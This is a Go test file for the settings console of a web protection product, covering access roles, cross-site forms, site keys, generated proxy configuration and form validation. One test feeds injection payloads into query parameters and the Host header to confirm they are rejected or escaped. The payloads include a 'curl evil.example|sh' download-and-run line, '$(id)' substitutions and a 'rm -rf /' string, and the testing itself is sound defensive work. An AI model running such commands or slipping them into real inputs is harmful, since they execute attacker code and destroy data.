package settings_test

import (
	"encoding/json"
	"fmt"
	"html"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"palisade.dev/backend/access"
	"palisade.dev/backend/site"
	"palisade.dev/config"
	"palisade.dev/console/page"
	"palisade.dev/console/page/pagetest"
	"palisade.dev/console/settings"
	"palisade.dev/guard/wire"
	"palisade.dev/store"
)

func open(t testing.TB) *pagetest.House {
	t.Helper()
	return pagetest.New(t, func(h *pagetest.House) []page.Route {
		s := &settings.Settings{
			DB: h.DB, Sites: h.Sites, Rules: h.Rules, Feed: h.Feed, Search: h.Search, Now: func() time.Time { return h.Now },
			Here: settings.Installation{Version: "1.2.3", Data: "palisade-data", Listen: "127.0.0.1:9090", Database: "SQLite", Networks: h.Networks.Status}, Retention: h.Retention,
		}
		return append(s.Routes(), page.Route{Pattern: "GET /{$}", Handle: func(r *page.Request) error { _, err := r.W.Write([]byte("sites")); return err }})
	})
}

var forms = map[string]url.Values{
	"/sites/new":                     {"name": {"other"}},
	"/s/shop/settings/facts":         {"zone": {"UTC"}, "web_facing": {"yes"}, "defaults": {"yes"}},
	"/s/shop/settings/address":       {"proxies": {"10.0.0.0/8"}, "header": {"X-Forwarded-For"}},
	"/s/shop/settings/accounts":      {"session": {"_shop"}},
	"/s/shop/settings/tie":           {"api_key": {"k"}, "account": {"a"}},
	"/s/shop/settings/untie":         {"key": {"00"}},
	"/s/shop/settings/answer":        {"status": {"404"}},
	"/s/shop/settings/failure":       {"name": {"login"}, "fail": {"closed"}},
	"/s/shop/settings/privacy":       {"mode": {"hashed"}},
	"/s/shop/settings/keys":          {"label": {"x"}},
	"/s/shop/settings/keys/revoke":   {"id": {"none"}},
	"/s/shop/settings/guards/forget": {"id": {"none"}},
	"/s/shop/settings/delete":        {"name": {"shop"}},
}

var looks = []string{"/sites/new", "/settings", "/s/shop/protect", "/s/shop/protect/live", "/s/shop/settings", "/s/shop/settings/address", "/s/shop/settings/delete"}

// Whoever is no owner gets no further, whichever way they try; and nothing is changed.
func TestRoles(t *testing.T) {
	h := open(t)
	log := func() int {
		entries, err := h.DB.AuditLog(t.Context(), store.AuditQuery{Limit: 1000})
		if err != nil {
			t.Fatal(err)
		}
		return len(entries)
	}
	before, tried := log(), 0
	for _, who := range []struct {
		name  string
		be    func()
		here  int
		whole int // status of what concerns the whole installation
	}{
		{"a responder", func() { h.As(access.Responder) }, 403, 403},
		{"a viewer", func() { h.As(access.Viewer) }, 403, 403},
		{"an auditor", func() { h.As(access.Auditor) }, 403, 403},
		{"an owner of another site", func() {
			h.As(access.Owner)
			h.Actor.Roles = map[string]access.Role{h.Bank.ID: access.Owner}
		}, 404, 403},
		{"nobody", func() { h.Actor = access.Actor{} }, 401, 401},
	} {
		who.be()
		check := func(path string, w *httptest.ResponseRecorder) {
			t.Helper()
			want := who.here
			if !strings.HasPrefix(path, "/s/") {
				want = who.whole
			}
			if want == 401 && w.Code == http.StatusSeeOther && strings.HasPrefix(w.Header().Get("Location"), "/signin?") {
				return
			}
			if tried++; w.Code != want {
				t.Errorf("%s, %s: %d, want %d", who.name, path, w.Code, want)
			}
		}
		for path, form := range forms {
			check(path, h.Post(path, form))
		}
		for _, path := range looks {
			check(path, h.Get(path))
		}
	}
	// An owner of this site only makes no others, and sees no installation.
	h.As(access.Owner)
	for path, w := range map[string]*httptest.ResponseRecorder{"/sites/new": h.Post("/sites/new", forms["/sites/new"]), "/settings": h.Get("/settings")} {
		if w.Code != 403 {
			t.Errorf("an owner of one site, %s: %d", path, w.Code)
		}
	}
	if after := log(); after != before || tried < 80 {
		t.Errorf("%d entries of the audit log were %d; %d tries", after, before, tried)
	}
}

// A form sent by another site's page changes nothing.
func TestCrossSite(t *testing.T) {
	h := open(t)
	h.Header.Set("Sec-Fetch-Site", "cross-site")
	for path, form := range forms {
		if w := h.Post(path, form); w.Code != 403 {
			t.Errorf("%s: %d", path, w.Code)
		}
	}
	if s, err := h.DB.SiteByName(t.Context(), "shop"); err != nil || s.Revision != h.Shop.Revision {
		t.Errorf("%+v %v", s, err)
	}
}

var key = regexp.MustCompile(`psk_[A-Za-z0-9_-]{20,}`)

func TestMakingASite(t *testing.T) {
	h := open(t)
	if w := h.Get("/sites/new"); w.Code != 200 || !strings.Contains(w.Body.String(), "Make the site") {
		t.Fatal(w.Code)
	}
	typed := url.Values{"name": {"Shop!"}, "environment": {"a word of more than forty letters is too long"}, "zone": {"Mars"}, "web_facing": {"yes"}, "app": {"nowhere"}, "host": {"a b"}}
	w := h.Post("/sites/new", typed)
	if w.Code != 422 {
		t.Fatalf("%d", w.Code)
	}
	for _, v := range []string{"Shop!", "a word of more than forty", "Mars", "nowhere", "a b"} {
		if !strings.Contains(w.Body.String(), html.EscapeString(v)) {
			t.Errorf("%q is lost", v)
		}
	}
	if w := h.Post("/sites/new", url.Values{"name": {"shop"}}); w.Code != 422 || !strings.Contains(pagetest.Text(w), "There is a site of this name already") {
		t.Errorf("a taken name: %d %s", w.Code, pagetest.Text(w))
	}
	sent := h.Post("/sites/new", url.Values{"name": {"blog"}, "zone": {"Europe/Berlin"}, "personal_data": {"yes"}, "app": {"http://127.0.0.1:5000/"}, "host": {"Blog.Example.com"}})
	next := h.Fine(t, sent)
	made, err := h.DB.SiteByName(t.Context(), "blog")
	if err != nil || made.WebFacing || !made.PersonalData || made.Environment != "prod" || made.Zone != "Europe/Berlin" {
		t.Fatalf("%+v %v", made, err)
	}
	text := html.UnescapeString(next.Body.String())
	secret := key.FindString(text)
	if secret == "" || !strings.Contains(text, "Waiting for the first guard") || !strings.Contains(text, "--upstream http://127.0.0.1:5000 ") || !strings.Contains(text, `hosts: ["blog.example.com"]`) || !strings.Contains(text, "http://blog.example.com:8080 {") {
		t.Errorf("%s", text)
	}
	if strings.Count(text, secret) < 4 || strings.Contains(text, "psk_…") {
		t.Error("the key is not put in everywhere")
	}
	// Only to who made it, and not for long; the address of the page holds no secret.
	to := sent.Header().Get("Location")
	if strings.Contains(to, "psk_") {
		t.Errorf("%s", to)
	}
	again := h.Get(to)
	if !strings.Contains(again.Body.String(), secret) {
		t.Error("loaded again, the key is lost")
	}
	h.Actor = access.Actor{Name: "eve", Roles: map[string]access.Role{access.Everywhere: access.Owner}, Scope: access.Operator.Scope}
	if w := h.Get(to); w.Code != 200 || key.MatchString(w.Body.String()) {
		t.Errorf("another owner sees the key: %d", w.Code)
	}
	h.Actor = access.Operator
	h.Now = h.Now.Add(11 * time.Minute)
	if w := h.Get(to); key.MatchString(w.Body.String()) {
		t.Error("the key is shown later")
	}
}

var snippet = regexp.MustCompile(`(?s)<pre id="([a-z-]+)" tabindex="0">(.*?)</pre>`)

func snippets(t *testing.T, h *pagetest.House, path string) map[string]string {
	t.Helper()
	w := h.Get(path)
	if w.Code != 200 {
		t.Fatalf("%s: %d %s", path, w.Code, pagetest.Text(w))
	}
	all := map[string]string{}
	for _, m := range snippet.FindAllStringSubmatch(w.Body.String(), -1) {
		all[m[1]] = html.UnescapeString(m[2])
	}
	if len(all) != 11 {
		t.Fatalf("%d snippets", len(all))
	}
	return all
}

// What is shown is what the examples say, as tests try them with real proxies, and what Palisade itself reads.
func TestSnippetsAreWhatIsTried(t *testing.T) {
	h := open(t)
	all := snippets(t, h, "/s/shop/protect?host=shop.example")
	for id, file := range map[string]string{"nginx": "nginx.conf", "caddy": "Caddyfile", "traefik": "traefik.yml", "haproxy": "haproxy.cfg", "lua": "haproxy.lua"} {
		text, err := os.ReadFile(filepath.Join("..", "..", "examples", file))
		if err != nil {
			t.Fatal(err)
		}
		if all[id] != string(text) {
			t.Errorf("%s differs from the example:\n%s", file, all[id])
		}
	}
	for host, want := range map[string][2]string{
		"":               {"http://:8080 {", "rule: PathPrefix(`/`)"},
		"blog.example":   {"http://blog.example:8080 {", "rule: Host(`blog.example`)"},
		"*.blog.example": {"http://*.blog.example:8080 {", "rule: HostRegexp(`^.+\\.blog\\.example$`)"},
	} {
		if all := snippets(t, h, "/s/shop/protect?app=[::1]:5000&host="+host); !strings.Contains(all["caddy"], want[0]) || !strings.Contains(all["traefik"], want[1]) || !strings.Contains(all["nginx"], "server [::1]:5000;") {
			t.Errorf("%q: %s\n%s", host, all["caddy"], all["traefik"])
		}
	}
	env := func(name string) (string, bool) { return "psk_x", name == "PALISADE_SITE_KEY" }
	for _, id := range []string{"gateway-file", "proxy-file"} {
		var c config.Config
		c.Console = config.DefaultConsole
		if err := config.Read(&c, "palisade.yml", []byte(snippets(t, h, "/s/shop/protect?host=*.shop.example&app=[::1]:4000&back=https://palisade.internal")[id]), env, nil); err != nil {
			t.Errorf("%s: %v", id, err)
			continue
		}
		if len(c.Sites) != 1 || c.Sites[0].Name != "shop" || c.Sites[0].SiteKey != "psk_x" || c.Sites[0].Hosts[0] != "*.shop.example" || c.Back.URL != "https://palisade.internal" {
			t.Errorf("%s: %+v", id, c)
		}
		if id == "gateway-file" && (len(c.Gateway.Listen) != 1 || c.Sites[0].Upstreams[0] != "http://[::1]:4000") || id == "proxy-file" && c.Gateway.Forward == nil {
			t.Errorf("%s: %+v", id, c.Gateway)
		}
	}
}

// A link made elsewhere puts no words of its own into somebody's configuration.
func TestSnippetsTakeNoWordsOfStrangers(t *testing.T) {
	h := open(t)
	tried := 0
	for _, name := range []string{"app", "host", "back"} {
		for _, bad := range append([]string{"127.0.0.1:4000; curl evil.example|sh", "evil.example\"\nadmin: x", "$(id)", "`id`", "a{b}", "http://user:pass@evil.example", "https://evil.example/path"}, pagetest.Hostile...) {
			w := h.Get("/s/shop/protect?" + url.Values{name: {bad}}.Encode())
			if tried++; w.Code != 422 {
				t.Errorf("%s=%.40q: %d", name, bad, w.Code)
			}
			pagetest.Harmless(t, name, w)
			for _, m := range snippet.FindAllStringSubmatch(w.Body.String(), -1) {
				if strings.Contains(m[2], "evil") || strings.Contains(m[2], "id)") {
					t.Errorf("%s=%.40q is in %s", name, bad, m[1])
				}
			}
		}
	}
	if tried < 40 {
		t.Fatal("cases were lost")
	}
	// Nor does a Host header.
	r := httptest.NewRequest("GET", "/s/shop/protect", nil)
	r.Host = `x"; rm -rf /; "`
	if w := h.Do(r); w.Code != 200 || strings.Contains(w.Body.String(), "rm -rf") {
		t.Errorf("%d", w.Code)
	}
}

func TestAGuardIsSeenComing(t *testing.T) {
	h := open(t)
	now := h.Now.UnixMilli()
	if err := h.DB.SeenGuard(t.Context(), store.Guard{Site: h.Shop.ID, ID: "gateway@<b>host</b>", Kind: "gateway", Version: "1", LastSeen: now, Modules: "[]"}); err != nil {
		t.Fatal(err)
	}
	if got := pagetest.Text(h.Get("/s/shop/protect")); !strings.Contains(got, "its first policy is on the way") {
		t.Errorf("%s", got)
	}
	if err := h.DB.Receipt(t.Context(), h.Shop.ID, "gateway@<b>host</b>", h.Shop.Revision, now, "", now); err != nil {
		t.Fatal(err)
	}
	w := h.Get("/s/shop/protect")
	if got := pagetest.Text(w); !strings.Contains(got, fmt.Sprintf("and enforces revision %d, the newest", h.Shop.Revision)) || strings.Contains(w.Body.String(), "<b>host") {
		t.Errorf("%s", got)
	}
}

// Each form keeps what it says, refuses what no guard could read, and loses nothing that was typed.
func TestForms(t *testing.T) {
	h := open(t)
	read := func() site.Document {
		t.Helper()
		s, err := h.DB.SiteByName(t.Context(), "shop")
		if err != nil {
			t.Fatal(err)
		}
		d, err := site.Read(s)
		if err != nil {
			t.Fatal(err)
		}
		return d
	}
	cases := []struct {
		path  string
		form  url.Values
		fault string // words beside the field; "" is kept
		field string
		kept  func(site.Document) bool
	}{
		{"facts", url.Values{"environment": {"staging"}, "zone": {"Europe/Berlin"}, "personal_data": {"yes"}, "defaults": {"yes"}}, "", "", func(d site.Document) bool {
			return d.Environment == "staging" && d.Zone == "Europe/Berlin" && d.PersonalData && !d.WebFacing && d.Defaults
		}},
		{"facts", url.Values{"environment": {"staging"}, "zone": {"Mars/Olympus"}}, `Zone &#34;Mars/Olympus&#34;: want a name such as Europe/Berlin`, "facts-zone", nil},
		{"facts", url.Values{"environment": {strings.Repeat("x", 41)}, "zone": {"UTC"}}, "want a word of at most 40 letters", "facts-environment", nil},
		{"address", url.Values{"proxies": {"10.0.0.0/8\r\nloopback, 192.0.2.1"}, "header": {"X-Forwarded-For"}}, "", "", func(d site.Document) bool {
			return strings.Join(d.Identity.Proxies, " ") == "10.0.0.0/8 loopback 192.0.2.1" && d.Identity.Header == "X-Forwarded-For"
		}},
		{"address", url.Values{"proxies": {"ten"}, "header": {"X-Forwarded-For"}}, "ten", "address-proxies", nil},
		{"address", url.Values{"proxies": {"10.0.0.0/8"}, "header": {""}}, "trusted without a header", "address-header", nil},
		{"address", url.Values{"proxies": {"10.0.0.0/8"}, "header": {"X Y"}}, "is no header name", "address-header", nil},
		{"accounts", url.Values{"session": {"_shop"}, "from": {"header:X-API-Key"}, "prefix": {"pk_"}, "min_length": {"10"}, "max_length": {"40"}, "alphabet": {"hex"}, "required": {"GET /api/**\r\n/v2/**"}}, "", "", func(d site.Document) bool {
			k := d.Identity.Key
			return d.Identity.Session == "_shop" && k != nil && k.Prefix == "pk_" && k.MinLength == 10 && k.MaxLength == 40 && strings.Join(k.Required, "|") == "GET /api/**|/v2/**"
		}},
		{"accounts", url.Values{"from": {"nowhere"}}, "want header:NAME, query:NAME or cookie:NAME", "accounts-from", nil},
		{"accounts", url.Values{"from": {"header:X-API-Key"}, "min_length": {"many"}}, "is no number", "accounts-min_length", nil},
		{"accounts", url.Values{"from": {"header:X-API-Key"}, "checksum": {"md5"}}, "want crc32", "accounts-checksum", nil},
		{"answer", url.Values{"uniform": {"yes"}, "status": {"404"}}, "", "", func(d site.Document) bool { return d.Answer == wire.Answer{Uniform: true, Status: 404} }},
		{"answer", url.Values{"status": {"200"}}, "200", "answer-status", nil},
		{"answer", url.Values{"status": {"teapot"}}, "is no status", "answer-status", nil},
		{"failure", url.Values{"match": {"POST /orders"}, "fail": {"closed"}}, "", "", func(site.Document) bool { return true }},
		{"failure", url.Values{"match": {"orders"}, "fail": {"closed"}}, "a path begins with /", "failure-match", nil},
		{"failure", url.Values{"match": {""}, "fail": {"closed"}}, "which route?", "failure-match", nil},
		{"tie", url.Values{"api_key": {"pk_0123456789abcdef"}, "account": {"acme"}, "label": {"first"}}, "", "", func(site.Document) bool { return true }},
		{"tie", url.Values{"api_key": {"nonsense"}, "account": {"acme"}}, "paste it again", "tie-api_key", nil},
		{"keys", url.Values{"label": {strings.Repeat("x", 101)}}, "longer than 100", "key-label", nil},
	}
	for _, c := range cases {
		w := h.Post("/s/shop/settings/"+c.path, c.form)
		what := fmt.Sprintf("%s %.80v", c.path, c.form)
		if c.fault == "" {
			h.Fine(t, w)
			if d := read(); !c.kept(d) {
				t.Errorf("%s: %+v", what, d)
			}
			before := kept(t, read())
			h.Fine(t, h.Post("/s/shop/settings/"+c.path, c.form)) // sent twice, it is the same
			if after := kept(t, read()); after != before {
				t.Errorf("%s: sent twice: %s", what, after)
			}
			continue
		}
		body := w.Body.String()
		if w.Code != 422 || !strings.Contains(strings.ToLower(body), strings.ToLower(c.fault)) || !strings.Contains(body, `id="`+c.field+`-fault"`) || !strings.Contains(body, `aria-describedby="`+c.field+`-fault"`) {
			t.Errorf("%s: %d, %q beside %s: %s", what, w.Code, c.fault, c.field, regexp.MustCompile(`<p class="fault".*?</p>`).FindAllString(body, -1))
		}
		for name, v := range c.form {
			if name != "api_key" && v[0] != "" && name != "fail" && name != "checksum" && !strings.Contains(html.UnescapeString(body), strings.ReplaceAll(v[0], "\r\n", "\n")) {
				t.Errorf("%s: %s=%q is lost", what, name, v[0])
			}
		}
		if strings.Contains(body, "nonsense") {
			t.Errorf("%s: a key came back into the page", what)
		}
	}
	if len(cases) < 20 {
		t.Fatal("cases were lost")
	}
	list, err := h.DB.Principals(t.Context(), h.Shop.ID)
	if err != nil || len(list) != 1 || list[0].Account != "acme" {
		t.Errorf("%+v %v", list, err)
	}
	h.Fine(t, h.Post("/s/shop/settings/untie", url.Values{"key": {list[0].Key}}))
	h.Fine(t, h.Post("/s/shop/settings/untie", url.Values{"key": {list[0].Key}}))
}

func kept(t *testing.T, d site.Document) string {
	t.Helper()
	text, err := json.Marshal(d)
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

func TestHostileWordsStayWords(t *testing.T) {
	h := open(t)
	for path, form := range forms {
		for name := range form {
			for _, bad := range pagetest.Hostile {
				hostile := url.Values{}
				for k, v := range form {
					hostile[k] = v
				}
				hostile.Set(name, bad)
				if path == "/s/shop/settings/keys" || path == "/s/shop/settings/delete" {
					h.Actor = access.Actor{Name: "x", Roles: map[string]access.Role{h.Bank.ID: access.Owner}, Scope: access.Operator.Scope}
				} else {
					h.Actor = access.Operator
				}
				w := h.Post(path, hostile)
				if w.Code >= 500 {
					t.Errorf("%s %s=%.30q: %d %s", path, name, bad, w.Code, pagetest.Text(w))
				}
				pagetest.Harmless(t, path+" "+name, w)
			}
		}
	}
	h.Actor = access.Operator
	for _, path := range looks {
		if path != "/s/shop/protect/live" {
			w := h.Get(path)
			if w.Code != 200 {
				t.Errorf("%s: %d %.300s", path, w.Code, pagetest.Text(w))
			}
			pagetest.Harmless(t, path, w)
		}
	}
}

// The live check says what a guard would make of this very request.
func TestTryingAnAddress(t *testing.T) {
	h := open(t)
	h.Header = http.Header{"X-Forwarded-For": {"192.0.2.66, 203.0.113.7"}, "Cookie": {"palisade=secret"}, "X-Real-Ip": {"<b>203.0.113.8</b>"}}
	for _, c := range []struct{ proxies, header, want string }{
		{"", "", "For you we would see 198.51.100.9 The address that this browser is connected from"},
		{"198.51.100.0/24", "X-Forwarded-For", "For you we would see 203.0.113.7 Found in X-Forwarded-For"},
		{"198.51.100.0/24 203.0.113.7", "X-Forwarded-For", "For you we would see 192.0.2.66 Found in"},
		{"10.0.0.0/8", "X-Forwarded-For", "For you we would see 198.51.100.9 The address that this browser is connected from"},
		{"198.51.100.0/24", "X-Real-IP", "makes no sense"},
		{"198.51.100.0/24", "Forwarded", "sent no Forwarded"},
	} {
		w := h.Get("/s/shop/settings/address?" + url.Values{"proxies": {c.proxies}, "header": {c.header}}.Encode())
		if got := pagetest.Text(w); w.Code != 200 || !strings.Contains(got, c.want) || !strings.Contains(got, "reached the console as example.com") || !strings.Contains(got, "192.0.2.66, 203.0.113.7") {
			t.Errorf("%+v: %d %s", c, w.Code, got)
		}
		pagetest.Harmless(t, c.header, w)
	}
	for _, secret := range []string{"Cookie", "cookie", "Authorization"} {
		if w := h.Get("/s/shop/settings/address?proxies=10.0.0.0/8&header=" + secret); strings.Contains(w.Body.String(), "palisade=secret") {
			t.Error("the page shows a cookie")
		}
	}
	w := h.Get("/s/shop/settings/address?proxies=ten&header=X-Forwarded-For")
	if w.Code != 422 || !strings.Contains(w.Body.String(), `id="address-proxies-fault"`) || strings.Contains(w.Body.String(), "For you we would see") {
		t.Errorf("%d %s", w.Code, pagetest.Text(w))
	}
	if s, _ := h.DB.SiteByName(t.Context(), "shop"); s.Revision != h.Shop.Revision {
		t.Error("trying changed something")
	}
}

// What the configuration file says is shown, and not changed here.
func TestWhatTheFileSays(t *testing.T) {
	h := open(t)
	declared := config.Site{Name: "shop", Zone: "Asia/Tokyo", Identity: wire.Identity{Proxies: []string{"10.0.0.0/8"}, Header: "X-Forwarded-For"}, Routes: []wire.Route{{Name: "orders", Match: wire.Words{"POST /orders"}, Fail: "closed"}}}
	if _, err := h.Sites.Declare(t.Context(), declared); err != nil {
		t.Fatal(err)
	}
	body := h.Get("/s/shop/settings").Body.String()
	if n := strings.Count(body, "The configuration file says this"); n != 3 {
		t.Errorf("said %d times", n)
	}
	h.Fine(t, h.Post("/s/shop/settings/facts", url.Values{"environment": {"staging"}, "web_facing": {"yes"}, "defaults": {"yes"}})) // the zone's field is not sent
	s, err := h.DB.SiteByName(t.Context(), "shop")
	if err != nil || s.Zone != "Asia/Tokyo" || s.Environment != "staging" {
		t.Errorf("%+v %v", s, err)
	}
	for path, form := range map[string]url.Values{"address": {"proxies": {""}, "header": {""}}, "failure": {"name": {"orders"}, "fail": {"open"}}} {
		if w := h.Post("/s/shop/settings/"+path, form); w.Code != 422 || !strings.Contains(w.Body.String(), "configuration file") {
			t.Errorf("%s: %d %s", path, w.Code, pagetest.Text(w))
		}
	}
	if got := pagetest.Text(h.Get("/s/shop/settings/delete")); !strings.Contains(got, "it is made again, empty, when Palisade starts") {
		t.Error(got)
	}
}

func TestARouteFailsAsSaid(t *testing.T) {
	h := open(t)
	mode := func(name string) string {
		t.Helper()
		s, err := h.DB.SiteByName(t.Context(), "shop")
		if err != nil {
			t.Fatal(err)
		}
		p, err := h.Feed.Build(t.Context(), s)
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range p.Routes {
			if r.Name == name {
				return fmt.Sprintf("%s of %d", r.Fail, len(r.Match))
			}
		}
		return "none"
	}
	was := mode("login")
	for _, fail := range []string{"closed", "open"} {
		h.Fine(t, h.Post("/s/shop/settings/failure", url.Values{"name": {"login"}, "fail": {fail}}))
		if got := mode("login"); got != fail+was {
			t.Errorf("%s: %q, was %q", fail, got, was)
		}
	}
	for range 2 {
		h.Fine(t, h.Post("/s/shop/settings/failure", url.Values{"name": {"login"}, "fail": {"local"}}))
		if got := mode("login"); got != was {
			t.Errorf("back: %q, was %q", got, was)
		}
	}
	h.Fine(t, h.Post("/s/shop/settings/failure", url.Values{"match": {"POST /orders/**"}, "fail": {"closed"}}))
	if got := mode("post-orders"); got != "closed of 1" {
		t.Error(got)
	}
	if w := h.Post("/s/shop/settings/failure", url.Values{"match": {"POST /orders"}, "fail": {"open"}}); w.Code != 422 || !strings.Contains(w.Body.String(), "has that name already") {
		t.Errorf("another of the same name: %d", w.Code)
	}
	if w := h.Post("/s/shop/settings/failure", url.Values{"name": {"none"}, "fail": {"open"}}); w.Code != 404 {
		t.Errorf("%d", w.Code)
	}
	if w := h.Post("/s/shop/settings/failure", url.Values{"name": {"login"}, "fail": {"ajar"}}); w.Code != 422 {
		t.Errorf("%d", w.Code)
	}
}

func TestKeysAreRotated(t *testing.T) {
	h := open(t)
	first := h.Fine(t, h.Post("/s/shop/settings/keys", url.Values{"label": {"first"}}))
	second := h.Fine(t, h.Post("/s/shop/settings/keys", url.Values{"label": {"second"}, "then": {"protect"}}))
	a, b := key.FindString(first.Body.String()), key.FindString(second.Body.String())
	if a == "" || b == "" || a == b || !strings.Contains(second.Body.String(), "Protect shop") {
		t.Fatalf("%q %q", a, b)
	}
	if w := h.Post("/s/shop/settings/keys", url.Values{"label": {"third"}}); w.Code != 422 || !strings.Contains(w.Body.String(), "revoke one first") {
		t.Errorf("a third: %d", w.Code)
	}
	keys, err := h.DB.SiteKeys(t.Context(), h.Shop.ID)
	if err != nil || len(keys) != 2 {
		t.Fatal(err)
	}
	for range 2 {
		h.Fine(t, h.Post("/s/shop/settings/keys/revoke", url.Values{"id": {keys[1].ID}}))
	}
	if w := h.Post("/s/bank/settings/keys/revoke", url.Values{"id": {keys[0].ID}}); w.Code != http.StatusSeeOther {
		t.Errorf("%d", w.Code)
	}
	keys, err = h.DB.SiteKeys(t.Context(), h.Shop.ID)
	if err != nil || keys[0].Revoked != 0 || keys[1].Revoked == 0 {
		t.Errorf("%+v %v", keys, err)
	}
}

func TestADeadGuardIsForgotten(t *testing.T) {
	h := open(t)
	if err := h.DB.SeenGuard(t.Context(), store.Guard{Site: h.Shop.ID, ID: "old", LastSeen: h.Now.UnixMilli(), Modules: "[]"}); err != nil {
		t.Fatal(err)
	}
	if got := pagetest.Text(h.Fine(t, h.Post("/s/shop/settings/guards/forget", url.Values{"id": {"old"}}))); !strings.Contains(got, "Guard old was heard of a moment ago: stop it first") {
		t.Error(got)
	}
	h.Now = h.Now.Add(2 * time.Minute)
	if got := pagetest.Text(h.Fine(t, h.Post("/s/shop/settings/guards/forget", url.Values{"id": {"old"}}))); !strings.Contains(got, "Guard old is taken off the list") {
		t.Error(got)
	}
	if list, err := h.DB.Guards(t.Context(), h.Shop.ID); err != nil || len(list) != 0 {
		t.Errorf("%v %v", list, err)
	}
}

func TestASiteIsDeletedByItsName(t *testing.T) {
	h := open(t)
	if got := pagetest.Text(h.Get("/s/shop/settings/delete")); !strings.Contains(got, "This cannot be undone") || strings.Contains(got, "configuration file") {
		t.Error(got)
	}
	if w := h.Post("/s/shop/settings/delete", url.Values{"name": {"Shop"}}); w.Code != 422 || !strings.Contains(w.Body.String(), "that is not its name") && !strings.Contains(w.Body.String(), "That is not its name") {
		t.Errorf("%d", w.Code)
	}
	h.Fine(t, h.Post("/s/shop/settings/delete", url.Values{"name": {"shop"}}))
	if w := h.Get("/s/shop/settings"); w.Code != 404 {
		t.Errorf("%d", w.Code)
	}
	if _, err := h.DB.SiteByName(t.Context(), "bank"); err != nil {
		t.Error(err)
	}
}

func TestInstallation(t *testing.T) {
	h := open(t)
	got := pagetest.Text(h.Get("/settings"))
	for _, want := range []string{"1.2.3", "palisade-data", "127.0.0.1:9090", "kept for 30 d", "PALISADE_SMTP", "line retention: of the configuration file", "lists of", "198.51.100.9", "line console_proxies:"} {
		if !strings.Contains(got, want) {
			t.Errorf("no %q in %s", want, got)
		}
	}
}

func BenchmarkSettings(b *testing.B) {
	h := open(b)
	for b.Loop() {
		if w := h.Get("/s/shop/settings"); w.Code != 200 {
			b.Fatal(w.Code)
		}
	}
}
